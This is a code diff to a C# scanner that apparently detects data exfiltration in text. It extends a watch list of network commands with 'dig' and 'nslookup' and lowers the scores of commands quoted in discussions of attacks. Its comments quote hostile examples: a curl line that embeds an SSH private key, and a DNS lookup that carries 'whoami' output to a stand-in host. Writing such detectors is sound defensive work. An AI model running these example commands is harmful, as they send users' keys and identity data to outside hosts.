@@ -90,7 +90,7 @@ public sealed class Scanner
                 patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Url));
             }
 
-            foreach (var command in (string[])["curl", "wget", "invoke-webrequest", "invoke-restmethod", "iwr", "irm"])
+            foreach (var command in (string[])["curl", "wget", "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "dig", "nslookup"])
             {
                 words.Add(command);
                 patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Command));
@@ -279,6 +279,7 @@ public sealed class Scanner
 
         if (_exfiltration)
         {
+            QuotedCommandsInDiscussion(context, pass.Signals, _options.ExfiltrationThreshold);
             ExfiltrationFinder.FromUrls(context, _allowlist, _options.ExfiltrationThreshold);
             ExfiltrationFinder.FromInstructions(context, pass.SendVerbs, pass.Sensitive, pass.Owned, pass.Stealth, pass.Addressed, _allowlist, _options.ExfiltrationThreshold);
             ExfiltrationFinder.FromTemplates(context, pass.Sensitive, _allowlist, _options.ExfiltrationThreshold);
@@ -303,6 +304,47 @@ public sealed class Scanner
                 {
                     regions.RemoveAt(k);
                     break;
+                }
+            }
+        }
+    }
+
+    /// <summary>
+    /// A command quoted inside writing about attacks ("Slide 12: 'curl …$(cat ~/.ssh/id_rsa)' — this is what a malicious
+    /// install script looks like") is shown, not run: its score is halved. Only quoted commands (a quotation mark or
+    /// backtick right before), and only with a strong word of discussion (not a weak one) within 300 characters.
+    /// </summary>
+    private static void QuotedCommandsInDiscussion(ScanContext context, List<InjectionSignal> signals, double threshold)
+    {
+        var text = context.Text;
+        for (var n = context.Regions.Count - 1; n >= 0; n--)
+        {
+            var f = context.Regions[n];
+            if (f.Type != EntityTypes.Exfiltration || f.Subtype != "http-command" || f.Start == 0 || text[f.Start - 1] is not ('\'' or '"' or '`' or '\u2018' or '\u201C' or '\u00AB' or '\u300C'))
+            {
+                continue;
+            }
+
+            var discussed = false;
+            foreach (var s in signals)
+            {
+                if (s.Weight <= 0 && s.Name == "discussion" && s.Start >= f.Start - 300 && s.Start <= f.End + 300 && (s.Start < f.Start || s.Start >= f.End))
+                {
+                    discussed = true;
+                    break;
+                }
+            }
+
+            if (discussed)
+            {
+                var score = Math.Round(f.Score * 0.5, 2);
+                if (score < threshold)
+                {
+                    context.Regions.RemoveAt(n);
+                }
+                else
+                {
+                    context.Regions[n] = f with { Score = score, Explanation = f.Explanation + "; lowered: quoted in writing about attacks" };
                 }
             }
         }
@@ -404,7 +446,17 @@ public sealed class Scanner
 
         var commandEnd = CommandInspector.End(text, start, context.Work);
         context.TriggerUntil = commandEnd;
+        var dns = end - start is 3 or 8 && (text[start] is 'd' or 'D' or 'n' or 'N');
+        if (dns && text.AsSpan(start, commandEnd - start).IndexOfAny('(', '`') < 0)
+        {
+            return; // a DNS lookup carries data out only in a name built by command substitution ("dig $(whoami).x.example")
+        }
+
         var reasons = CommandInspector.Inspect(text, start, commandEnd, context.Work, out var url);
+        if (dns)
+        {
+            reasons.RemoveAll(r => !r.Reason.StartsWith("command substitution", StringComparison.Ordinal));
+        }
         if (reasons.Count == 0 || (url is not null && _allowlist.Allows(UrlInspector.Host(url))))
         {
             return;
